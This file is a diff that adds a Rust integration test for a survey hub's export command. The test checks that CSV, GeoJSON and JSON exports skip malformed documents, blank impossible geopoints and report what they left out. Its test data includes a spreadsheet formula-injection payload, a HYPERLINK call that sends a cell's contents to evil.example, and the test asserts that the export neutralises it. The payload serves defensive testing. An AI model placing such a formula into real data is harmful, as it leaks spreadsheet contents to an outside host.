@@ -1,0 +1,230 @@
+//! `minga-hub export` as its own process over a hub database that holds, besides good
+//! submissions, documents no export can lay out (a submission of a form never published, an
+//! automerge document that is no submission), answers a spreadsheet would run as formulas and
+//! geopoints that are no place on Earth, as they may be stored from before the hub checked
+//! documents or arrive by sync. Every format is written with the good data and says what it
+//! left out.
+
+mod common;
+
+use automerge::transaction::Transactable;
+use automerge::{AutoCommit, ReadDoc, ROOT};
+use common::{fixture_form, Phone};
+use minga_core::{AnswerPath, FormRef, GeoPoint, Value};
+use minga_hub::access::DocKind;
+use minga_hub::admin;
+use minga_hub::storage::{DocumentWrite, HubStorage, SqliteStorage};
+use serde_json::Value as Json;
+use std::path::Path;
+use std::process::Command;
+
+const PROJECT: &str = "imbabura";
+const FORMULA: &str = "=HYPERLINK(\"https://evil.example/?\"&B2)";
+
+/// The submission's bytes with its `location` answer's parts replaced as they might arrive by
+/// sync from a device that did not check them (the local API refuses them when typed).
+fn with_stored_point(bytes: &[u8], latitude: f64, accuracy: f64) -> Vec<u8> {
+    let mut doc = AutoCommit::load(bytes).unwrap();
+    let (_, answers) = doc.get(ROOT, "answers").unwrap().unwrap();
+    let (_, location) = doc.get(&answers, "location").unwrap().unwrap();
+    doc.put(&location, "latitude", latitude).unwrap();
+    doc.put(&location, "accuracy", accuracy).unwrap();
+    doc.save()
+}
+
+/// What the hub holds: ids of the submissions written with a good location, with an impossible
+/// one, and of the two documents no export can lay out.
+struct Stored {
+    good: String,
+    impossible: Vec<String>,
+    unpublished: String,
+    not_a_submission: String,
+}
+
+fn store_documents(data: &Path) -> Stored {
+    let storage = SqliteStorage::open(data).unwrap();
+    admin::create_project(&storage, PROJECT, None).unwrap();
+    admin::publish_form(&storage, PROJECT, fixture_form()).unwrap();
+    let phone = Phone::new("ana-phone");
+    let (good, _) = phone.fill("Rosa");
+    phone.answer(&good, "respondent", Value::Text(FORMULA.into()));
+    let located = |id: &str| {
+        phone.answer(
+            id,
+            "location",
+            Value::GeoPoint(GeoPoint {
+                latitude: -0.2299,
+                longitude: -78.5,
+                altitude: None,
+                accuracy: Some(4.5),
+            }),
+        )
+    };
+    let mut writes = vec![(good.clone(), located(&good))];
+    let mut impossible = Vec::new();
+    for (latitude, accuracy) in [(1000.0, 4.5), (f64::NAN, 4.5), (-0.2299, -3.0)] {
+        let (id, _) = phone.fill("Pedro");
+        writes.push((
+            id.clone(),
+            with_stored_point(&located(&id), latitude, accuracy),
+        ));
+        impossible.push(id);
+    }
+    let draft = phone
+        .store
+        .create_submission(&FormRef::new("draft_census", "1"))
+        .unwrap();
+    phone
+        .store
+        .set_answer(&draft, &AnswerPath::new("q"), &Value::Integer(1))
+        .unwrap();
+    let unpublished = draft.to_string();
+    writes.push((
+        unpublished.clone(),
+        phone.store.export_submission(&draft).unwrap(),
+    ));
+    let mut other = AutoCommit::new();
+    other.put(ROOT, "shopping", "bread").unwrap();
+    let not_a_submission = "6f1c2e4a-9d8b-4c3a-8e7f-5a4b3c2d1e0f".to_string();
+    writes.push((not_a_submission.clone(), other.save()));
+    let writes: Vec<DocumentWrite> = writes
+        .into_iter()
+        .map(|(id, changes)| DocumentWrite {
+            id,
+            kind: DocKind::Submission,
+            author: Some("ana-phone".into()),
+            subject: None,
+            changes,
+        })
+        .collect();
+    storage.write_documents(PROJECT, &writes, None).unwrap();
+    Stored {
+        good,
+        impossible,
+        unpublished,
+        not_a_submission,
+    }
+}
+
+/// Runs `minga-hub export` and returns what it printed; it must succeed.
+fn export(data: &Path, format: &str, out: &Path) -> String {
+    let output = Command::new(env!("CARGO_BIN_EXE_minga-hub"))
+        .arg("--data")
+        .arg(data)
+        .args(["export", "--project", PROJECT, "--format", format, "--out"])
+        .arg(out)
+        .output()
+        .unwrap();
+    let printed = String::from_utf8(output.stdout).unwrap();
+    assert!(
+        output.status.success(),
+        "{format}: {printed}{}",
+        String::from_utf8_lossy(&output.stderr)
+    );
+    printed
+}
+
+/// The cells of the CSV row whose `KEY` is `uuid:<id>`, by header (no cell in this test holds
+/// a comma or a line break, so splitting on commas is exact).
+fn csv_row(csv: &str, id: &str) -> std::collections::BTreeMap<String, String> {
+    let mut lines = csv.lines();
+    let header: Vec<&str> = lines.next().unwrap().split(',').collect();
+    let key = format!("uuid:{id}");
+    let row = lines
+        .map(|line| line.split(',').collect::<Vec<_>>())
+        .find(|cells| cells.last() == Some(&key.as_str()))
+        .unwrap_or_else(|| panic!("no row {key} in {csv}"));
+    header
+        .iter()
+        .zip(row)
+        .map(|(h, c)| (h.to_string(), c.to_string()))
+        .collect()
+}
+
+#[test]
+fn every_export_writes_the_good_submissions_and_names_what_it_left_out() {
+    let data = tempfile::tempdir().unwrap();
+    let stored = store_documents(data.path());
+    let out = tempfile::tempdir().unwrap();
+    for format in ["csv", "geojson", "json"] {
+        let printed = export(data.path(), format, &out.path().join(format));
+        let said = |line: &str| {
+            assert!(
+                printed.contains(line),
+                "{format}: no `{line}` in:\n{printed}"
+            );
+        };
+        said(&format!(
+            "skipped {}: a submission of form `draft_census` version `1`",
+            stored.unpublished
+        ));
+        said(&format!(
+            "skipped {}: not a submission: the document has no meta.id",
+            stored.not_a_submission
+        ));
+        said(&format!(
+            "no location for {} location: latitude 1000 is outside -90..90",
+            stored.impossible[0]
+        ));
+        said(&format!(
+            "no location for {} location: latitude is NaN",
+            stored.impossible[1]
+        ));
+        said(&format!(
+            "no location for {} location: accuracy -3 is negative",
+            stored.impossible[2]
+        ));
+        assert!(!printed.contains(&format!("skipped {}", stored.good)));
+    }
+
+    let csv = std::fs::read_to_string(out.path().join("csv/safety_walk.csv")).unwrap();
+    assert_eq!(
+        csv.lines().count(),
+        1 + 4,
+        "a header and the four readable rows: {csv}"
+    );
+    let good = csv_row(&csv, &stored.good);
+    assert_eq!(
+        good["who-respondent"], "\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2)\"",
+        "the formula is neutralised, then quoted"
+    );
+    assert_eq!(
+        good["location-Longitude"], "-78.5",
+        "a number, not prefixed"
+    );
+    assert_eq!(good["location-Longitude"].parse::<f64>().unwrap(), -78.5);
+    for id in &stored.impossible {
+        let row = csv_row(&csv, id);
+        assert_eq!(row["who-respondent"], "Pedro", "the row stays");
+        for part in ["Latitude", "Longitude", "Altitude", "Accuracy"] {
+            assert_eq!(row[&format!("location-{part}")], "", "{id} {part}");
+        }
+    }
+
+    let geojson: Json = serde_json::from_slice(
+        &std::fs::read(out.path().join("geojson/safety_walk.geojson")).unwrap(),
+    )
+    .expect("the GeoJSON is valid JSON");
+    let features = geojson["features"].as_array().unwrap();
+    assert_eq!(features.len(), 4, "{geojson}");
+    let geometry = |id: &str| {
+        features
+            .iter()
+            .find(|f| f["id"] == format!("uuid:{id}"))
+            .map(|f| f["geometry"].clone())
+            .unwrap_or_else(|| panic!("no feature for {id}"))
+    };
+    assert_eq!(
+        geometry(&stored.good)["coordinates"],
+        serde_json::json!([-78.5, -0.2299])
+    );
+    for id in &stored.impossible {
+        assert_eq!(geometry(id), Json::Null, "{id}");
+    }
+
+    let json: Json =
+        serde_json::from_slice(&std::fs::read(out.path().join("json/safety_walk.json")).unwrap())
+            .unwrap();
+    assert_eq!(json["submissions"].as_array().unwrap().len(), 4);
+    assert!(!out.path().join("csv/draft_census.csv").exists());
+}
